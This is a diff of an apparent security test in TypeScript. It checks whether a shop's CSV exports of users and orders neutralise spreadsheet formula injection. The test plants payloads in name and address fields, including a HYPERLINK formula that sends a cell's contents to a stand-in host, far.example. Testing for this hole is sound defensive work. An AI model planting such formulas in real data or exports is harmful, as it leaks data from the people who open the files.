@@ -1,21 +1,21 @@
 import { parse } from 'csv-parse/sync';
-import { one } from '../../../support/shops/shop-world.ts';
+import { cartOfOneLot } from '../../../support/shops/shop-world.ts';
 import type { Attack } from '../../attack.ts';
-import { findings } from '../../findings.ts';
-import { importFolder } from './import-folder.ts';
+import { makeAttackFindings } from '../../attack-findings.ts';
+import { makeImportFolder } from './make-import-folder.ts';
 
 const FORMULA = '=HYPERLINK("https://far.example/?"&A1;"1")';
 const TYPED = [FORMULA, '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '\r=1+1'];
 
 /** What strangers and suppliers write, waiting for the operator to open an export in a spreadsheet. */
-export const exportedFormulas: Attack = {
+export const exportedFormulaAttack: Attack = {
   id: '40',
   title: 'Texts that an exported file would have a spreadsheet run',
   kind: 'own-processes',
   run: async world => {
-    const { expect, verdict } = findings();
+    const { expect, verdict } = makeAttackFindings();
     const { processes, shop, database } = await world.openShop([{}]);
-    const sent = importFolder(world);
+    const sent = makeImportFolder(world);
     const cellsOf = (csv: string) =>
       parse(csv, { columns: true, record_delimiter: '\n' }) as Readonly<Record<string, string>>[];
     const formulasIn = (csv: string): readonly string[] =>
@@ -32,7 +32,7 @@ export const exportedFormulas: Attack = {
       { user: { ...profile, first_name: FORMULA, last_name: '+1', address: '@SUM(1)' } },
       shopper,
     );
-    await shop.order(shopper, one(await shop.lot()));
+    await shop.order(shopper, cartOfOneLot(await shop.lot()));
     for (const list of ['users', 'orders']) {
       const { out } = await processes.operator(list, 'list', '--format', 'csv');
       const rows = cellsOf(out).length;
